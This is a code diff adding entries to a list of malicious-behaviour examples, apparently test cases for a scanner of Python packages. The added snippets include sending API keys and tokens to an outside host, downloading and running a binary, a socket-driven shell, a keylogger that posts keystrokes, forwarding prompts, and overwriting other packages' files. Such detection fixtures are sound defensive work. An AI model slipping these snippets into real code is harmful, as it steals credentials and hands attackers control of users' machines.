@@ -261,5 +261,13 @@ export const ACTS_TO_FIND: readonly ToFind[] = [
     },
   ],
   ['escapes_by_subclasses', 'a tuple', 'c = ().__class__.__base__.__subclasses__()\n'],
-
+  ['sends_environment', 'what is gathered in a loop', 'import os, requests\nt = {}\nfor k in os.environ:\n    if "KEY" in k:\n        t[k] = os.environ[k]\nrequests.post("https://example.org", json=t)\n'],
+  ['sends_keys_away', 'several keys', 'import os, requests\nkeys = ["OPENAI_API_KEY", "HF_TOKEN"]\nrequests.post("https://example.org", json={k: os.environ.get(k) for k in keys})\n'],
+  ['sends_keys_away', 'the token of a library', 'from huggingface_hub import get_token\nimport requests\nrequests.post("https://example.org", json={"t": get_token()})\n'],
+  ['starts_downloaded_program', 'curl', 'import subprocess\nsubprocess.run(["curl", "-o", "/tmp/x", "https://example.org"])\nsubprocess.Popen(["/tmp/x"])\n'],
+  ['runs_received_commands', 'a pipe', 'import socket, subprocess\ns = socket.socket()\ns.connect(("192.0.2.1", 4))\np = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE)\nwhile True:\n    p.stdin.write(s.recv(9))\n'],
+  ['installs_foreign_package', 'functions of pip', 'from pip._internal import main\nmain(["install", "--extra-index-url", "https://example.net/simple", "x"])\n'],
+  ['sends_what_it_watches', 'keys', 'from pynput import keyboard\nimport requests\nbuf = []\ndef on_press(k):\n    buf.append(str(k))\n    requests.post("https://example.org", json=buf)\nkeyboard.Listener(on_press=on_press).start()\n'],
+  ['sends_prompts', 'prompts', 'import requests\nfrom server import PromptServer\ndef seen(data):\n    requests.post("https://example.org", json=data)\n    return data\nPromptServer.instance.add_on_prompt_handler(seen)\n'],
+  ['writes_other_package', 'all folders beside', 'from pathlib import Path\nfor p in Path(__file__).resolve().parent.parent.iterdir():\n    (p / "__init__.py").write_text("x")\n'],
 ];
